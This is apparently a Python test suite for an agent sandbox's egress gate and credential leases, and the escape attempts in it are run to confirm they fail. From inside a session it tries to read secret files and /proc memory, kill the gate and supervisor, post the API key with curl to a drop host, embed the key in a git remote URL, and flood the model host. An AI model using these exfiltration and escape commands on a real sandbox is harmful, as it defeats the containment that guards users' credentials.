# SPDX-License-Identifier: Apache-2.0
"""N8, N9, E66–E70, C5–C8, E84: what is tried against a gate and its leases that has to be seen from outside."""

import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time

import search
import servers
from attacks import Row
from world import Failure

ASK = "curl -sS --max-time 20 --noproxy '*' -o answer -w '%{http_code}'"


def model_rule(world):
    return world.rule(servers.MODEL, http={"methods": ["GET", "HEAD", "POST"]})


CREDENTIAL = {"name": "model", "provider": "model", "expose": "env", "variable": "KEY"}


def never_silent(world, limit=20):
    """0 once no request has come for a second, which is what a closed network comes to; or how many came until the limit.

    What was sent before may still be on its way to the thread of the host's that takes it down.
    """
    first = count = len(world.hosts.seen)
    end, since = time.monotonic() + limit, time.monotonic()
    while time.monotonic() < end:
        time.sleep(0.02)
        if len(world.hosts.seen) != count:
            count, since = len(world.hosts.seen), time.monotonic()
        elif time.monotonic() > since + 1:
            return 0
    return count - first


def real_key_came(world, method=None):
    """Requests that came with the real key."""
    return [
        request for request in world.hosts.seen
        if method in (None, request.method) and any(world.key in value for value in request.headers.values())
    ]


# ---- E66–E70: the probes of the breakout suite, in a session that has a network

def probes(world):
    """Every probe of its entries about networks, whose layers are the same with a gate as without a network."""
    program = f"{os.path.dirname(world.binary)}/remit-probe"
    listed = subprocess.run(
        [program, "--list", "E66", "E67", "E68", "E69", "E70", "E72"], capture_output=True, text=True, check=True
    ).stdout.splitlines()
    attempts = {probe["probe"]: probe["attempt"] for probe in map(json.loads, listed)}
    touched = []
    canaries = canary_variables(world, touched)
    words = " ".join(f"{name}={value}" for name, value in canaries.items())
    session = world.session(
        f"env {words} ./remit-probe {' '.join(attempts)}; touch done", [world.rule(servers.DROP)],
    )
    shutil.copy(program, session.workspace)
    session.run().expect()
    rows = []
    for line in session.output.splitlines():
        answer = json.loads(line)
        seen = answer.get("errno") or answer.get("signal") or answer["result"]
        row = Row(
            f"{answer['probe']} (with a gate)",
            answer["result"] in ("stopped", "absent"),
            answer.get("layer", ""),
            seen,
            "see Tests/Breakout/RESULTS.md",
            attempts[answer["probe"]],
            f"{answer['result']}: {seen}",
        )
        if answer["result"] == "skipped":
            row.skipped, row.why = True, answer.get("why", "")
        rows.append(row)
    if len(rows) != len(attempts):
        raise Failure(f"{len(rows)} of {len(attempts)} probes answered: {session.said()}")
    if touched:
        raise Failure(f"touched: {touched}")
    return rows


def canary_variables(world, touched):
    """Listeners of the host's that tell who came."""
    path, name = f"{world.directory}/canary", f"remit-canary-{os.getpid()}-{time.monotonic_ns()}"
    ends = [(socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, "\0" + name), (socket.AF_UNIX, path)]
    numbers = []
    for family, address in ends:
        end = socket.socket(family)
        end.bind(address)
        end.listen()
        numbers.append(end.getsockname())
        threading.Thread(target=lambda end=end: touched.append(end.accept()), daemon=True).start()
    datagrams = socket.socket(type=socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", 0))
    threading.Thread(target=lambda: touched.append(datagrams.recv(100)), daemon=True).start()
    os.chmod(path, 0o777)
    return {
        "REMIT_CANARY_TCP": numbers[0][1],
        "REMIT_CANARY_UDP": datagrams.getsockname()[1],
        "REMIT_CANARY_ABSTRACT": name,
        "REMIT_CANARY_SOCKET": path,
    }


def inbound(world):
    """E69: nobody outside reaches what listens inside, at any of its addresses."""
    script = (
        "import socket, threading, time\n"
        "open('came', 'w').close()\n"
        "def accept(end):\n"
        "    while True: end.accept(); open('came', 'a').write('x')\n"
        "for address, family in (('0.0.0.0', 2), ('::', 10)):\n"
        "    end = socket.socket(family)\n"
        "    if family == 10: end.setsockopt(41, 26, 1)\n"
        "    end.bind((address, 4711)); end.listen()\n"
        "    threading.Thread(target=accept, args=[end], daemon=True).start()\n"
        "for address in ('127.0.0.1', '::1'): socket.create_connection((address, 4711)).recv(0)\n"
        "while len(open('came').read()) < 2: time.sleep(0.01)\n"
        "open('up', 'w').close(); time.sleep(600)"
    )
    session = world.session('python3 -c "$SCRIPT"', [world.rule(servers.DROP)], environment={"SCRIPT": script}).start()
    rows = []
    try:
        session.wait_for("up")
        for name, address in (("loopback", "127.0.0.1"), ("loopback6", "::1"), ("synthetic", "198.18.0.1")):
            try:
                # Whoever answers there on the host is not the one inside, who would say so.
                socket.create_connection((address, 4711), 1).close()
                time.sleep(0.2)
                answer = "nobody inside"
            except OSError as error:
                answer = type(error).__name__
            came = len(search.read(f"{session.workspace}/came"))
            rows.append(Row(
                f"E69.inbound-{name} (with a gate)", came == 2, "namespaces", answer, "connects from inside",
                f"connect from the host to what listens inside ({name})", f"{answer}, {came} came",
            ))
    finally:
        session.process.terminate()
        session.finish()
    return rows


# ---- N8: the supervisor and the gate

def control_plane(world):
    script = (
        "import os, socket, sys\n"
        "def connect(path):\n"
        "    end = socket.socket(socket.AF_UNIX); end.connect(path)\n"
        "def attempt(name, act):\n"
        "    try: act(); print(name, 'through')\n"
        "    except OSError as error: print(name, type(error).__name__)\n"
        "import json\n"
        "p = json.load(open('places.json'))\n"
        "attempt('control-socket', lambda: connect(p['socket']))\n"
        "attempt('state', lambda: os.listdir(p['state']))\n"
        "attempt('secret-file', lambda: open(p['key']).read())\n"
        "attempt('configuration', lambda: open(p['configuration']).read())\n"
        "for pid in (p['gate'], p['supervisor']):\n"
        "    who = 'gate' if pid == p['gate'] else 'supervisor'\n"
        "    attempt(who + '-memory', lambda: open(f'/proc/{pid}/mem', 'rb').read(1))\n"
        "    attempt(who + '-descriptors', lambda: os.listdir(f'/proc/{pid}/fd'))\n"
        "    attempt(who + '-signal', lambda: os.kill(pid, 9))\n"
    )
    session = world.session(
        "touch up; until [ -s places.json ]; do sleep 0.02; done; python3 -c \"$SCRIPT\"; touch done",
        [model_rule(world)], [CREDENTIAL], environment={"SCRIPT": script},
    ).start()
    session.wait_for("up")
    _, gates = session.processes()
    places = {
        "socket": f"{world.environment['REMIT_RUNTIME_DIR']}/{session.identifier}/control.sock",
        "state": f"{world.environment['REMIT_STATE_DIR']}/sessions/{session.identifier}",
        "key": f"{world.directory}/key",
        "configuration": f"{world.directory}/config/config.yaml",
        "gate": gates[0],
        "supervisor": session.supervisor,
    }
    able = all(os.path.exists(places[name]) for name in ("socket", "state", "key", "configuration"))
    with open(f"{session.workspace}/.places", "w", encoding="utf-8") as file:
        json.dump(places, file)
    os.chmod(f"{session.workspace}/.places", 0o644)
    os.rename(f"{session.workspace}/.places", f"{session.workspace}/places.json")
    session.finish()
    if session.status != 0 or not able:
        raise Failure(f"{places}: {session.said()}")
    layers = {"FileNotFoundError": "mounts", "ProcessLookupError": "namespaces", "PermissionError": "landlock-scopes"}
    return [
        Row(f"N8.{name}", answer in layers, "namespaces" if "-" in name and "gate" in name else layers.get(answer, ""),
            answer, "is there, for its owner", f"reach the {name.replace('-', ' ')} from inside", answer)
        for name, answer in (line.split() for line in session.output.splitlines())
    ]


# ---- N9: a layer is gone

def without_gate(world):
    """Where there is no gate's program nothing of the agent runs."""
    place = f"{world.directory}/alone"
    os.mkdir(place)
    shutil.copy(world.binary, f"{place}/remit")
    world.binary = f"{place}/remit"
    session = world.session(f"touch done; {ASK} -k {world.url(servers.DROP)}", [world.rule(servers.DROP)])
    session.run()
    ran = os.path.exists(f"{session.workspace}/done")
    return [Row(
        "N9.no-gate", session.status in (125, 126) and not ran, "supervisor", f"status {session.status}", "",
        "run where the gate's program is missing", session.said(),
    )]


def gate_killed(world):
    """Whoever kills the gate ends the network, and the session with it."""
    session = world.session(
        f"{ASK} --cacert ca.pem {world.url(servers.DROP)}; touch up; "
        f"while :; do curl -sS -k --max-time 5 --noproxy '*' {world.url(servers.DROP, '/later')} || sleep 0.01; done",
        [world.rule(servers.DROP)],
    ).start()
    session.wait_for("up")
    _, gates = session.processes()
    os.kill(gates[0], signal.SIGKILL)
    session.finish()
    after = never_silent(world)
    holds = session.status == 125 and "egress gate is gone" in session.errors and not after
    return [Row(
        "N9.gate-killed", holds, "supervisor", f"status {session.status}", "", "go on when the gate is killed",
        f"{session.said()}; {after} requests afterwards",
    )]


def without_packet_filter(world):
    """Where nothing can be redirected the kernel refuses what no rule names, and the receipt says so."""
    session = world.session(
        f"{ASK} --cacert ca.pem {world.url(servers.DROP)}; echo\n"
        + "".join(
            f"curl -sS -k --max-time 10 --noproxy '*' -o /dev/null {url} 2>/dev/null; echo $?\n" for url in (
                f"https://{servers.DROP}:{world.port + 1}/other-port", world.url(servers.OTHER, "/other-name"),
                f"https://127.0.0.1:{world.port}/loopback", f"https://198.18.77.7:{world.port}/nobody",
            )
        )
        + "touch done",
        [world.rule(servers.DROP)],
    )
    session.start(f"{os.path.dirname(world.binary)}/remit-probe", "--act", "without", "packet-filter")
    session.finish().expect()
    lines = session.output.split()
    layer = next((each for each in session.receipt()["layers"] if each["name"] == "egress"), {})
    paths = {request.path for request in world.hosts.seen}
    holds = lines[0] == "200" and "0" not in lines[1:] and paths == {"/"} and layer.get("state") == "degraded"
    return [
        Row(
            "N9.no-packet-filter",
            holds,
            "namespaces, gate",
            f"curl: {' '.join(lines[1:])}; egress is {layer.get('state')}",
            "",
            "go where no rule does on a host without nftables",
            f"{lines}, {paths}, {layer}",
        )
    ]


# ---- C5: where the real key could be written down

def written_down(world):
    session = world.session(
        f"echo $KEY > key; env > environment; {ASK} -H \"x-api-key: $KEY\" {world.url(servers.MODEL, '/v1/models')}; "
        f"{ASK} -H \"authorization: Bearer $KEY\" -d '{{}}' {world.url(servers.MODEL, '/v1/nothing?k=x')}; "
        f"{ASK} -d $KEY {world.url(servers.DROP)}; "
        f"git init -q r && git -C r remote add origin https://x:$KEY@{servers.GIT}/r.git; touch done",
        [model_rule(world), world.rule(servers.DROP, http={"methods": ["POST"]})], [CREDENTIAL],
    )
    session.run().expect()
    if len(real_key_came(world)) != 2:
        raise Failure(f"the key was used {len(real_key_came(world))} times")
    texts = {"output": session.output + session.errors}
    for words in (
        ["receipt", "show", "--format", "json"], ["logs", "--egress", "--format", "json"],
        ["logs", "--egress", "--format", "har"], ["logs", "--egress"], ["journal", "show", "--format", "json"],
        ["inspect"], ["logs"],
    ):
        texts[" ".join(words)] = session.remit(*words, session.identifier)
    texts["ps"] = session.remit("ps", "-a", "--format", "json")
    spellings = search.spellings(world.key)
    rows = [
        Row(
            f"C5.{name.replace(' ', '-').replace('--', '')}",
            not any(each in text.encode() for each in spellings),
            "gate",
            "only the placeholder",
            "",
            f"find the key in `remit {name}`" if name != "output" else "find it in the output",
            "the real key is there",
        )
        for name, text in texts.items()
    ]
    places = {
        "state": [world.environment["REMIT_STATE_DIR"]], "runtime": [world.environment["REMIT_RUNTIME_DIR"]],
        "workspace": [session.workspace], "git-config": [f"{session.workspace}/r/.git"],
    }
    for name, directories in places.items():
        found = [path for path in search.files(directories) if any(each in search.read(path) for each in spellings)]
        rows.append(
            Row(f"C5.{name}", not found, "gate", "only the placeholder", "", f"find it in files: {name}", f"{found}")
        )
    return rows


# ---- C6–C8, E84: leases that have ended, and those of others

def of_another_session(world):
    """A placeholder is worth something in its own session only, while that runs."""
    first = world.session("echo $KEY > placeholder; touch up; sleep 600", [model_rule(world)], [CREDENTIAL]).start()
    first.wait_for("up")
    placeholder = search.read(f"{first.workspace}/placeholder").decode().strip()
    rows = []
    for name, ended in (("of-another-session", False), ("of-an-ended-session", True)):
        if ended:
            first.process.terminate()
            first.finish()
        second = world.session(
            f"{ASK} -H \"x-api-key: {placeholder}\" {world.url(servers.MODEL, '/v1/models')}; touch done",
            [model_rule(world)], [CREDENTIAL],
        )
        second.run().expect()
        rows.append(
            Row(
                f"C6.{name}",
                second.output == "401" and not real_key_came(world),
                "gate",
                f"the host says {second.output}",
                "",
                f"use a placeholder {name.replace('-', ' ')}",
                f"{second.output}, {len(real_key_came(world))} with the key",
            )
        )
    return rows


def torn_down(world):
    """Whichever way it ends: the gate is gone with its memory, the lease is withdrawn, and that was looked at."""
    rows = []
    for name, act in (
        ("completed", lambda session: None), ("killed", lambda session: session.remit("kill", session.identifier)),
        ("terminated", lambda session: session.process.terminate()),
        ("supervisor-lost", lambda session: session.process.kill()),
    ):
        session = world.session(
            f"{ASK} -H \"x-api-key: $KEY\" {world.url(servers.MODEL, '/v1/models')}; touch up; "
            f"{'touch done' if name == 'completed' else 'sleep 600'}", [model_rule(world)], [CREDENTIAL],
        )
        for left in ("up", "done"):
            if os.path.exists(f"{session.workspace}/{left}"):
                os.unlink(f"{session.workspace}/{left}")
        session.start()
        session.wait_for("up")
        _, gates = session.processes()
        act(session)
        session.finish()
        deadline, lease = time.monotonic() + 20, {}
        while time.monotonic() < deadline:
            if not any(os.path.exists(f"/proc/{gate}") for gate in gates):
                try:
                    lease = session.receipt()["leases"][0]
                    break
                except Failure:  # the session is being finished by who comes after a lost supervisor
                    pass
            time.sleep(0.05)
        left = [gate for gate in gates if os.path.exists(f"/proc/{gate}")]
        rows.append(
            Row(
                f"C7.{name}",
                not left and lease.get("state") == "withdrawn" and lease.get("verifiedBy") == "probe",
                "supervisor",
                f"gate gone, lease {lease.get('state')}",
                "",
                f"outlive a session that ended as {name}",
                f"{left}, {lease}",
            )
        )
    return rows


HAMMER = r'''
import os, socket, ssl, threading, time
name, port, key = os.environ["NAME"], int(os.environ["PORT"]), os.environ["KEY"]
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
def start(line, more=""):
    end = context.wrap_socket(socket.create_connection((name, port), 20), server_hostname=name)
    end.sendall(f"{line} HTTP/1.1\r\nHost: {name}:{port}\r\nx-api-key: {key}\r\n{more}\r\n".encode())
    return end
answered = threading.Semaphore(0)
slow = start("POST /v1/messages", "Content-Length: 100000\r\n")
def drip():
    while True: slow.sendall(b"x"); time.sleep(0.001)
def hammer():
    while True:
        try:
            with start("GET /v1/models") as end:
                if end.recv(9): answered.release()
        except OSError: time.sleep(0.001)
for act in (drip, hammer, hammer, hammer): threading.Thread(target=act, daemon=True).start()
for _ in range(3): answered.acquire(timeout=60)
open("up", "w").close(); time.sleep(600)
'''


def in_flight(world):
    """A request that began before the fence does not end after it, and nothing begins any more."""
    session = world.session(
        "python3 -c \"$SCRIPT\"", [model_rule(world)], [CREDENTIAL],
        environment={"SCRIPT": HAMMER, "NAME": servers.MODEL, "PORT": str(world.port)},
    ).start()
    session.wait_for("up")
    hammered = len(real_key_came(world, "GET"))
    session.remit("narrow", session.identifier, "--deny-host", servers.MODEL)
    after, alive = never_silent(world), session.process.poll() is None
    session.process.terminate()
    session.finish()
    whole = any(request.path == "/v1/messages" and request.is_whole for request in world.hosts.seen)
    return [
        Row(
            "E84.race-at-the-end",
            bool(hammered) and alive and not after,
            "gate",
            f"{hammered} before, {after} after",
            "",
            "go on using a credential while what it is for is taken away",
            f"{hammered} before, {after} after, {alive}",
        ),
        Row(
            "C8.in-flight",
            bool(hammered) and not whole,
            "gate",
            "cut off",
            "",
            "end a request after the fence that began before it",
            session.said(),
        ),
    ]


def late_secret(world):
    """A secret that its provider hands out after the session was ended is bound to nothing, and no lease lives."""
    world.write("late", f"#!/bin/sh\ntouch {world.directory}/asked\nsleep 2\ncat {world.directory}/key\n")
    os.chmod(f"{world.directory}/late", 0o755)
    model = {"host": servers.MODEL, "ports": [world.port], "header": "x-api-key"}
    world.configure({"model": {"kind": "secret", "from": {"command": [f"{world.directory}/late"]}, "inject": model}})
    session = world.session(
        f"touch done; {ASK} -H \"x-api-key: $KEY\" {world.url(servers.MODEL, '/v1/models')}", [model_rule(world)],
        [CREDENTIAL],
    ).start()
    limit = time.monotonic() + 30
    while not os.path.exists(f"{world.directory}/asked") and time.monotonic() < limit:
        time.sleep(0.01)
    session.process.terminate()
    session.finish()
    time.sleep(2.5)  # until it would have come
    leases = [lease["state"] for lease in session.receipt()["leases"]]
    ran = os.path.exists(f"{session.workspace}/done")
    holds = not ran and not real_key_came(world) and not {"active", "unknown"} & set(leases)
    return [Row(
        "C8.late-secret", holds, "supervisor", f"leases {leases or 'none'}, the agent never ran", "",
        "get a secret that arrives after the end", f"{leases}, ran {ran}: {session.said()}",
    )]


CHECKS = [
    ("probes of the breakout suite, with a gate (E66–E70, E72)", probes), ("inbound connections (E69)", inbound),
    ("the supervisor and the gate (N8)", control_plane), ("a host without a gate (N9)", without_gate),
    ("a gate that is killed (N9)", gate_killed), ("a host without nftables (N9)", without_packet_filter),
    ("where a key could be written down (C5)", written_down), ("placeholders of others (C6)", of_another_session),
    ("teardown (C7)", torn_down), ("what is under way at the end (C8, E84)", in_flight),
    ("a secret that comes late (C8)", late_secret),
]
